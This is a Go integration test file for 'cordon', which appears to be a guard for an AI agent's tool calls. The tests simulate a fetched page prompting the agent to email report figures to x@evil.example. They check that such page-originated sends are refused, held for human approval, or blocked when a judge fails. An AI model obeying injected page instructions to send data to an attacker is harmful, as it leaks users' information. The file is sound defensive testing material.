//go:build integration

package integration

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
)

// programs builds cordon and cordon-judge beside each other, once.
// CORDON_INTEGRATION_BIN is a directory that has them already.
var programs = sync.OnceValues(func() (cordon string, err error) {
	if dir := os.Getenv("CORDON_INTEGRATION_BIN"); dir != "" {
		return filepath.Join(dir, "cordon"), nil
	}
	dir := os.Getenv("CORDON_INTEGRATION_DIR")
	if dir == "" {
		if dir, err = os.UserCacheDir(); err != nil {
			return "", err
		}
		dir = filepath.Join(dir, "cordon", "integration")
	}
	cmd := exec.Command("go", "build", "-o", dir+"/", "./cmd/cordon", "./cmd/cordon-judge")
	cmd.Dir = filepath.Join("..", "..")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("go build: %w\n%s", err, out)
	}
	return filepath.Join(dir, "cordon"), nil
})

// mailbox is a workspace, a database and a stub server that notes what it sent.
type mailbox struct {
	place
	cordon, sent, config string
}

func newMailbox(t *testing.T, config string) *mailbox {
	t.Helper()
	cordon, err := programs()
	if err != nil {
		t.Fatal(err)
	}
	m := &mailbox{place: newPlace(t), cordon: cordon}
	m.sent = filepath.Join(filepath.Dir(m.db), "sent")
	m.config = filepath.Join(filepath.Dir(m.db), "cordon.yaml")
	if err := os.WriteFile(m.config, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	return m
}

// flags of every command that judges.
func (m *mailbox) flags() []string {
	return []string{"--mode", "enforce", "--profile", "atom", "--tier", "autonomous", "--config", m.config, "--db", m.db,
		"--workspace", m.workspace, "--home", m.home}
}

// open starts cordon before the stub server; capabilities are the client's.
func (m *mailbox) open(t *testing.T, capabilities string, more ...string) *client {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	words := append(append([]string{"mcp"}, m.flags()...), more...)
	words = append(words, "--", self, stubWord, m.sent)
	c := &client{t: t, cmd: exec.Command(m.cordon, words...), stderr: &safeBuffer{}}
	c.cmd.Stderr = c.stderr
	c.cmd.WaitDelay = 5 * time.Second
	if c.in, err = c.cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	out, err := c.cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	c.out = bufio.NewReaderSize(out, 1<<20)
	if err := c.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.close)
	c.ask("initialize", fmt.Sprintf(`{"protocolVersion":"2025-06-18","capabilities":%s,"clientInfo":{"name":"cordon-test","version":"1"}}`, capabilities))
	c.write(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	return c
}

func (c *client) mail(to string) (text string, refused bool) {
	c.t.Helper()
	return c.result(c.call("send_email", fmt.Sprintf(`{"to":%q,"subject":"report","body":"12, 14, 19"}`, to)))
}

func (c *client) page(name string) string {
	c.t.Helper()
	text, refused := c.result(c.call("fetch_page", fmt.Sprintf(`{"page":%q}`, name)))
	if refused {
		c.t.Fatalf("the page did not come: %s", text)
	}
	return text
}

func (m *mailbox) mails(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile(m.sent)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return strings.ReplaceAll(strings.TrimSpace(string(b)), "\n", " ")
}

func (m *mailbox) proposals(t *testing.T, words ...string) string {
	t.Helper()
	code, out, errs := output(t, append(append([]string{m.cordon, "proposals"}, words...), "--config", m.config, "--db", m.db)...)
	if code != 0 {
		t.Fatalf("cordon proposals %s: exit %d: %s%s", strings.Join(words, " "), code, out, errs)
	}
	return out
}

var (
	proposalID = regexp.MustCompile(`prop-[a-z0-9]+`)
	chunkID    = regexp.MustCompile(`\bc-[a-z0-9]{8,}`)
)

// pending is the one proposal that waits.
func (m *mailbox) pending(t *testing.T) string {
	t.Helper()
	ids := proposalID.FindAllString(m.proposals(t, "list", "--state", "pending"), -1)
	if len(ids) != 1 {
		t.Fatalf("%d proposals wait, want 1: %q", len(ids), ids)
	}
	return ids[0]
}

func TestOriginsAMailThatAPageAskedForWaitsForAPerson(t *testing.T) {
	m := newMailbox(t, "")
	c := m.open(t, `{}`, "--prompt", "Mail the figures of the report page to bob@corp.example.")
	c.page("report")
	if text, refused := c.mail("x@evil.example"); !refused {
		t.Fatalf("the page's address: %s", text)
	} else {
		t.Logf("the model reads: %s", text)
	}
	if text, refused := c.mail("bob@corp.example"); refused {
		t.Fatalf("the user's address was refused: %s", text)
	}
	id := m.pending(t)
	shown := m.proposals(t, "show", id)
	for _, want := range []string{"send_email", "x@evil.example", "pending"} {
		if !strings.Contains(shown, want) {
			t.Errorf("the proposal does not say %q:\n%s", want, shown)
		}
	}
	if !chunkID.MatchString(shown) {
		t.Errorf("the proposal names no chunk:\n%s", shown)
	}
	m.proposals(t, "approve", id)
	if text, refused := c.mail("x@evil.example"); refused {
		t.Fatalf("the approved call was refused: %s", text)
	}
	if text, refused := c.mail("x@evil.example"); !refused {
		t.Fatalf("the approval served twice: %s", text)
	}
	if got, want := m.mails(t), "bob@corp.example x@evil.example"; got != want {
		t.Errorf("mails went to %q, want %q", got, want)
	}
	if shown := m.proposals(t, "show", id); !strings.Contains(shown, "executed") {
		t.Errorf("the proposal that ran:\n%s", shown)
	}
}

func TestOriginsAClientWithFormsIsAsked(t *testing.T) {
	for _, row := range []struct{ answer, mails string }{
		{`{"action":"accept","content":{"decision":"approve"}}`, "x@evil.example"},
		{`{"action":"accept","content":{"decision":"reject"}}`, ""},
		{`{"action":"decline"}`, ""},
		{`{"action":"cancel"}`, ""},
	} {
		t.Run(row.answer, func(t *testing.T) {
			m := newMailbox(t, "")
			c := m.open(t, `{"elicitation":{}}`)
			c.page("report")
			c.id++
			c.write(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"x@evil.example","subject":"s","body":"b"}}}`, c.id))
			question := c.next()
			if question.Method != "elicitation/create" || !strings.Contains(question.Params.Message, "x@evil.example") {
				t.Fatalf("not the question: %+v", question)
			}
			t.Logf("the person reads: %s", question.Params.Message)
			c.write(fmt.Sprintf(`{"jsonrpc":"2.0","id":%s,"result":%s}`, question.ID, row.answer))
			if got := c.next(); string(got.ID) != fmt.Sprint(c.id) || got.Result.IsError != (row.mails == "") {
				t.Fatalf("the call came back as %+v", got)
			}
			if got := m.mails(t); got != row.mails {
				t.Errorf("mails went to %q, want %q", got, row.mails)
			}
		})
	}
}

type message struct {
	ID     json.RawMessage
	Method string
	Params struct{ Message string }
	Result struct{ IsError bool }
}

func (c *client) next() (m message) {
	c.t.Helper()
	line, err := c.out.ReadString('\n')
	if err != nil {
		c.t.Fatalf("no message: %v\nstderr: %s", err, c.stderr)
	}
	if err := json.Unmarshal([]byte(line), &m); err != nil {
		c.t.Fatalf("not JSON: %v: %s", err, line)
	}
	return m
}

func TestOriginsTaggedTextCannotLeaveItsTag(t *testing.T) {
	m := newMailbox(t, "provenance: {deliver_tagged: true}\n")
	c := m.open(t, `{}`)
	text := c.page("tag")
	tag := regexp.MustCompile(`^<provenance [^>]*type="TOOL_OUTPUT"[^>]*nonce="([^"]{16,})">\n?`).FindStringSubmatch(text)
	if tag == nil {
		t.Fatalf("no tag with a nonce: %s", text)
	}
	if n := strings.Count(text, "</provenance"); n != 1 || !strings.HasSuffix(strings.TrimSpace(text), "</provenance>") {
		t.Fatalf("%d ends of a tag: %s", n, text)
	}
	if n := strings.Count(text, "<provenance"); n != 1 {
		t.Fatalf("%d beginnings of a tag: %s", n, text)
	}
	t.Logf("the model reads: %s", text)
	if again := m.open(t, `{}`).page("tag"); strings.Contains(again, tag[1]) {
		t.Error("two contexts have one nonce")
	}
	if text, refused := c.mail("x@evil.example"); !refused {
		t.Errorf("what claims to be the user's was taken for it: %s", text)
	}
}

// downURL is the address of a server that is down.
func downURL(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return "http://" + l.Addr().String() + "/v1"
}

func TestOriginsAJudgeThatFailsChangesNothingElse(t *testing.T) {
	command := func(script string) string {
		file := filepath.Join(t.TempDir(), "judge.sh")
		if err := os.WriteFile(file, []byte("#!/bin/sh\n"+script+"\n"), 0o700); err != nil {
			t.Fatal(err)
		}
		return fmt.Sprintf("phases: {judge: true}\njudge: {provider: command, command: [%s], timeout_seconds: 1}\n", file)
	}
	for _, row := range []struct{ name, config string }{
		{"it hangs", command("cat >/dev/null; exec sleep 30")},
		{"it fails", command("exit 1")},
		{"it talks nonsense", command("echo '{\"verdict\":\"proceed\"} or so'")},
		{"it says proceed without the code", command(`echo '{"verdict":"proceed","reason":"fine","code":"none"}'`)},
		{"its server is down", fmt.Sprintf("phases: {judge: true}\njudge: {provider: openai, model: m, base_url: %q, timeout_seconds: 1}\n", downURL(t))},
	} {
		t.Run(row.name, func(t *testing.T) {
			m := newMailbox(t, row.config)
			c := m.open(t, `{}`, "--prompt", "Mail the figures of the report page to bob@corp.example.")
			c.page("report")
			if text, refused := c.mail("bob@corp.example"); refused {
				t.Errorf("a call from the user's words was refused: %s", text)
			}
			if text, refused := c.mail("x@evil.example"); !refused {
				t.Errorf("a call from the page's words passed: %s", text)
			}
			shown := m.proposals(t, "show", m.pending(t))
			if !strings.Contains(shown, "judge") {
				t.Errorf("the proposal does not say that the judge was to be asked:\n%s", shown)
			}
			if got, want := m.mails(t), "bob@corp.example"; got != want {
				t.Errorf("mails went to %q, want %q", got, want)
			}
		})
	}
	t.Run("a judge that blocks is heard", func(t *testing.T) {
		m := newMailbox(t, command(`code=$(sed -n 's/.*"code":"\([^"]*\)".*/\1/p'); printf '{"verdict":"block","reason":"no","code":"%s"}' "$code"`))
		c := m.open(t, `{}`, "--prompt", "Mail the figures of the report page to bob@corp.example.")
		if text, refused := c.mail("bob@corp.example"); !refused {
			t.Errorf("passed: %s", text)
		}
	})
}
